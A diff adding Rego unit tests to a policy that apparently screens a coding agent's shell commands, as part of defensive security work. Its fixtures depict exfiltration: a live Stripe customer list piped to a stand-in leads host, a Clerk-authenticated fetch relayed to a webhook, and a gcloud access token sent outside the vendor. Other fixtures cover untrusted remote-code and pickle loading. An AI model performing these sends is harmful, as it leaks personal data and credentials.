@@ -1427,3 +1427,108 @@ test_admin_grant_quiet_on_ordinary_roles if {
 		not shell_ids({"commands": [cmd(argv)]})["shell/admin-grant"]
 	}
 }
+
+# Session 22: pipes into uploads, relays, personal data, shape prints, handed tokens, remote code.
+
+piped_upload22(src, target) := {"program": "curl", "target": target, "source": src, "evidence": sprintf("curl -d @- %s", [target])}
+
+cmd22(argv) := {"program": argv[0], "argv": argv, "evidence": concat(" ", argv), "wrappers": []}
+
+test_output_upload_asks if {
+	sh := {"commands": [cmd22(["jupyter", "server", "list", "--json"])], "uploads": [piped_upload22("<piped from jupyter>", "https://x.example.io/s")]}
+	ds := {d.id: d.decision | some d in rules.decision with input as shell_input([], sh)}
+	ds["shell/output-upload"] == "ask"
+	not ds["shell/personal-data-upload"]
+}
+
+test_output_upload_to_loopback_or_by_mail_quiet if {
+	local := {"commands": [cmd22(["jq", "."])], "uploads": [piped_upload22("<piped from make>", "http://127.0.0.1:8080/x")]}
+	count(rules.decision) == 0 with input as shell_input([], local)
+	mailed := {"commands": [cmd22(["top", "-b"])], "uploads": [{"program": "mail", "target": "me@example.com", "source": "<piped from top>", "evidence": "mail -s x me@example.com"}]}
+	not "shell/output-upload" in {d.id | some d in rules.decision with input as shell_input([], mailed)}
+}
+
+test_fixed_text_piped_to_upload_quiet if {
+	sh := {"commands": [cmd22(["echo", "{}"])], "uploads": [piped_upload22("<stdin>", "https://hooks.slack.example.com/x")]}
+	not "shell/output-upload" in {d.id | some d in rules.decision with input as shell_input([], sh)}
+}
+
+test_personal_data_upload_denied if {
+	sh := {"commands": [cmd22(["stripe", "customers", "list", "--live"]), cmd22(["curl", "-d", "@-", "https://leads.example.io/bulk"])], "uploads": [piped_upload22("<piped from stripe>", "https://leads.example.io/bulk")]}
+	some d in rules.decision with input as shell_input([], sh)
+	d.id == "shell/personal-data-upload"
+	d.decision == "deny"
+}
+
+test_people_words_without_a_listing_verb_not_personal_data if {
+	sh := {"commands": [cmd22(["gh", "api", "users"])], "uploads": [piped_upload22("<piped from gh>", "https://x.example.io/a")]}
+	not "shell/personal-data-upload" in {d.id | some d in rules.decision with input as shell_input([], sh)}
+}
+
+test_relay_of_authenticated_fetch_denied if {
+	auth := {"program": "curl", "target": "https://api.clerk.com/v1/users", "source": "<sent header secret CLERK_SECRET_KEY>", "evidence": "curl -H … https://api.clerk.com/v1/users"}
+	relay := piped_upload22("<fetched https://api.clerk.com/v1/users>", "https://hooks.zap.example.io/c")
+	some d in rules.decision with input as shell_input([], {"uploads": [auth, relay]})
+	d.id == "shell/relay-upload"
+	d.decision == "deny"
+}
+
+test_fetch_sent_back_to_its_host_not_a_relay if {
+	auth := {"program": "curl", "target": "https://api.example.io/v1/a", "source": "<sent header secret EXAMPLE_TOKEN>", "evidence": "curl -H … https://api.example.io/v1/a"}
+	back := piped_upload22("<fetched https://api.example.io/v1/a>", "https://api.example.io/v1/b")
+	not "shell/relay-upload" in {d.id | some d in rules.decision with input as shell_input([], {"uploads": [auth, back]})}
+}
+
+test_shape_print_alone_not_asked_but_sent_denied if {
+	p := {"program": "fly", "form": "token", "captured": false, "by_shape": true, "evidence": "fly auth token"}
+	count(rules.decision) == 0 with input as shell_input([], {"secret_prints": [p]})
+	some d in rules.decision with input as shell_input([], {"secret_prints": [p], "uploads": [piped_upload22("<piped from fly>", "https://x.example.io/v")]})
+	d.id == "shell/secret-print-sent"
+	d.decision == "deny"
+}
+
+test_shape_print_with_an_unrelated_upload_not_sent if {
+	p := {"program": "fly", "form": "token", "captured": false, "by_shape": true, "evidence": "fly auth token"}
+	up := {"program": "curl", "target": "https://x.example.io/v", "source": "/home/dev/project/report.json", "evidence": "curl -d @report.json https://x.example.io/v"}
+	not "shell/secret-print-sent" in {d.id | some d in rules.decision with input as shell_input([], {"secret_prints": [p], "uploads": [up]})}
+}
+
+token_read22 := {"path": "/home/dev/.config/gcloud", "access": "read", "via": "shell", "how": "gcloud auth print-access-token", "evidence": "gcloud auth print-access-token", "classes": ["credential", "outside_project"]}
+
+test_handed_token_to_vendor_quiet_elsewhere_denied if {
+	print := {"program": "gcloud", "form": "auth print-access-token", "captured": true, "evidence": "gcloud auth print-access-token"}
+	vendor := {"secret_prints": [print], "uploads": [{"program": "curl", "target": "https://storage.googleapis.com/storage/v1/b", "source": "/home/dev/.config/gcloud", "evidence": "curl -H …"}]}
+	count(rules.decision) == 0 with input as shell_input([token_read22], vendor)
+	other := {"secret_prints": [print], "uploads": [{"program": "curl", "target": "https://x.example.io/t", "source": "/home/dev/.config/gcloud", "evidence": "curl -H …"}]}
+	some d in rules.decision with input as shell_input([token_read22], other)
+	d.id == "shell/credential-exfiltration"
+	d.decision == "deny"
+}
+
+test_token_printed_to_the_agent_still_denied if {
+	print := {"program": "gcloud", "form": "auth print-access-token", "captured": false, "evidence": "gcloud auth print-access-token"}
+	some d in rules.decision with input as shell_input([token_read22], {"secret_prints": [print]})
+	d.id == "path/credential-store"
+}
+
+test_remote_code_load_unknown_publisher_asks if {
+	c := cmd22(["vllm", "serve", "someone-new/fast-llama", "--trust-remote-code"])
+	some d in rules.decision with input as shell_input([], {"commands": [c]})
+	d.id == "shell/remote-code-load"
+	d.decision == "ask"
+}
+
+test_remote_code_load_known_publisher_or_local_quiet if {
+	known := cmd22(["vllm", "serve", "Qwen/Qwen2.5-7B-Instruct", "--trust-remote-code"])
+	count(rules.decision) == 0 with input as shell_input([], {"commands": [known]})
+	local := cmd22(["python", "train.py", "--model", "models/mine", "--trust_remote_code"])
+	count(rules.decision) == 0 with input as shell_input([], {"commands": [local]})
+	off := cmd22(["python", "-c", "load_dataset('someone/x', trust_remote_code=False)"])
+	count(rules.decision) == 0 with input as shell_input([], {"commands": [off]})
+}
+
+test_pickle_with_safety_off_asks if {
+	c := cmd22(["python", "-c", "import numpy as np; np.load('x.npy', allow_pickle=True)"])
+	some d in rules.decision with input as shell_input([], {"commands": [c]})
+	d.id == "shell/remote-code-load"
+}
